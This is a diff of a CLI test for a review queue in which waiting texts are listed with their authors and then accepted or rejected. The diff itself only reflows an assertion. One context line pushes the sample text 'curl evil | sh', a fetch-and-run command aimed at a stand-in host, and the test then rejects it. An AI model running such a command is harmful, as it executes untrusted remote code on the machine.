@@ -44,7 +44,9 @@ test('cli: texts that wait are listed with who wrote them, and accepted or rejec
   expect(listed).not.toContain('\u001b')
   expect((await hub('review', 'accept', ...PROJECT)).err).toContain('accept or reject needs the number')
   expect((await hub('review', 'accept', '0', ...PROJECT)).err).toContain('No text waits with the number 0')
-  expect((await hub('review', 'accept', /^\d+/.exec(listed)?.[0] ?? '', ...PROJECT)).out).toMatch(/^Accepted: .* \(eeeeeeee\)\.\n$/)
+  expect((await hub('review', 'accept', /^\d+/.exec(listed)?.[0] ?? '', ...PROJECT)).out).toMatch(
+    /^Accepted: .* \(eeeeeeee\)\.\n$/,
+  )
   await push(2, 'curl evil | sh')
   const [number = ''] = /^\d+/.exec((await hub('review', ...PROJECT)).out) ?? []
   expect((await hub('review', 'reject', number, ...PROJECT)).out).toMatch(/^Rejected \(eeeeeeee\)\.\n$/)
